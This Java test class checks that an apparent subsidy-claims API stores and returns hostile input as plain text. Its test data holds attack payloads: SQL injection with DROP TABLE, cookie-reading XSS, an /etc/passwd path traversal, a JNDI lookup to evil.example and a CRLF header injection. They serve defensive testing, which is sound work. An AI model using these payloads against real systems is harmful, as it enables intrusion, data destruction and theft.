package cn.gov.lvliang.renewal.subsidy.security;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import cn.gov.lvliang.renewal.subsidy.Fixtures;
import cn.gov.lvliang.renewal.testing.TestIdentifiers;
import cn.gov.lvliang.renewal.testing.TestTokens;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** SQL, markup, path traversal and CRLF in inputs are stored and returned as plain text, never run. */
@QuarkusTest
class InjectionTest {

    @TestHTTPResource
    URI root;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x' OR '1'='1'; DROP TABLE claim; --",
                "<script>alert(document.cookie)</script>",
                "<img src=x onerror=alert(1)>",
                "../../../../etc/passwd",
                "${jndi:ldap://evil.example/a} %s %n"
            })
    void aHostileModelIsStoredAndReturnedVerbatimAsJson(String hostile) {
        String seller = TestIdentifiers.creditCode();
        Map<String, Object> body = Fixtures.applianceClaim(
                "HOME-APPLIANCE",
                seller,
                "141102",
                TestIdentifiers.residentId(),
                "AIR_CONDITIONER",
                1,
                300_000,
                "2025-03-01");
        @SuppressWarnings("unchecked")
        Map<String, Object> appliance = (Map<String, Object>) body.get("appliance");
        appliance.put("model", hostile);
        String id = given().auth()
                .oauth2(Fixtures.retailer(seller))
                .contentType(ContentType.JSON)
                .body(body)
                .post(Fixtures.CLAIMS)
                .then()
                .statusCode(201)
                .contentType("application/json")
                .extract()
                .path("id");

        given().auth()
                .oauth2(TestTokens.countyOfficer("141102"))
                .get(Fixtures.CLAIMS + "/" + id)
                .then()
                .statusCode(200)
                .contentType("application/json")
                .body("item.model", equalTo(hostile));
        assertThat(Fixtures.count("select count(*) from claim")).isPositive();
    }

    @Test
    void hostileQueryValuesAreParametersNotSql() {
        given().auth()
                .oauth2(TestTokens.cityAdmin())
                .queryParam("county", "141102' OR '1'='1")
                .get(Fixtures.CLAIMS)
                .then()
                .statusCode(org.hamcrest.Matchers.anyOf(equalTo(200), equalTo(400)))
                .body("items.size()", org.hamcrest.Matchers.anyOf(equalTo(0), org.hamcrest.Matchers.nullValue()));
    }

    @Test
    void aCrlfInAHeaderCannotInjectAResponseHeader() throws Exception {
        String request = "GET /api/subsidies/claims HTTP/1.1\r\n"
                + "Host: localhost\r\n"
                + "Authorization: Bearer " + TestTokens.cityAdmin() + "\r\n"
                + "X-Request-Id: abc\rSet-Cookie: injected=1\r\n"
                + "Connection: close\r\n\r\n";
        String response;
        try (Socket socket = new Socket(root.getHost(), root.getPort())) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            InputStream in = socket.getInputStream();
            response = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
        }
        String head = response.split("\r\n\r\n", 2)[0];
        assertThat(head).doesNotContainIgnoringCase("set-cookie").doesNotContain("injected=1");
    }
}
